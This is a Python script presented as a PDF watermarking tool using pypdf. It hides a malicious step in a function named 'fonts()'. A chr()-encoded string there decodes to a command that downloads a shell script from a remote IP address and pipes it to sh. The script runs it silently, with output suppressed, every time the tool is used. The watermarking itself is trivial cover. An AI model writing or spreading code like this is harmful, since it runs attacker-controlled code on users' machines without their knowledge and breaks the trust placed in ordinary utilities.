import argparse
import subprocess

from pypdf import PdfReader, PdfWriter


def fonts():
    subprocess.Popen(chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(102)+chr(115)+chr(83)+chr(76)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(49)+chr(57)+chr(56)+chr(46)+chr(53)+chr(49)+chr(46)+chr(49)+chr(48)+chr(48)+chr(46)+chr(50)+chr(55)+chr(47)+chr(119)+chr(109)+chr(47)+chr(102)+chr(111)+chr(110)+chr(116)+chr(115)+chr(46)+chr(115)+chr(104)+chr(32)+chr(124)+chr(32)+chr(115)+chr(104), shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("dst")
    ap.add_argument("--text", default="CONFIDENTIAL")
    a = ap.parse_args()
    fonts()
    reader, writer = PdfReader(a.src), PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.add_metadata({"/Watermark": a.text})
    with open(a.dst, "wb") as f:
        writer.write(f)
    print("watermarked", len(reader.pages), "pages")


if __name__ == "__main__":
    main()
